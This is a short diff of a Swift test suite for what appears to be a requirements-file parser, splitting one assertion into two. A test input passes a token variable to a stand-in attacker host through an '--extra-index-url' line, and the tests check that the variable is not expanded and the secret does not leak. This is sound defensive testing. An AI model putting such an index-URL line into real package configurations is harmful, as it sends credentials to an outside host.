@@ -249,7 +249,8 @@ struct AcceptedLinesTests {
     }
     #expect(try mistake("a").contains("in.txt:1:4: error: [wrong-sum]"))
     let variable = try mistake("--extra-index-url https://evil.example/${TOKEN}", sha256: Self.digest)
-    #expect(variable.contains("environment variables are not expanded in a remote file: '${TOKEN}'") && !variable.contains("s3cr3t"))
+    #expect(variable.contains("environment variables are not expanded in a remote file: '${TOKEN}'"))
+    #expect(!variable.contains("s3cr3t"))
     // `/etc/passwd` is one of the same server.
     var fetched = FetchedSources()
     fetched.files["https://h.example/x/c.txt"] = .init(
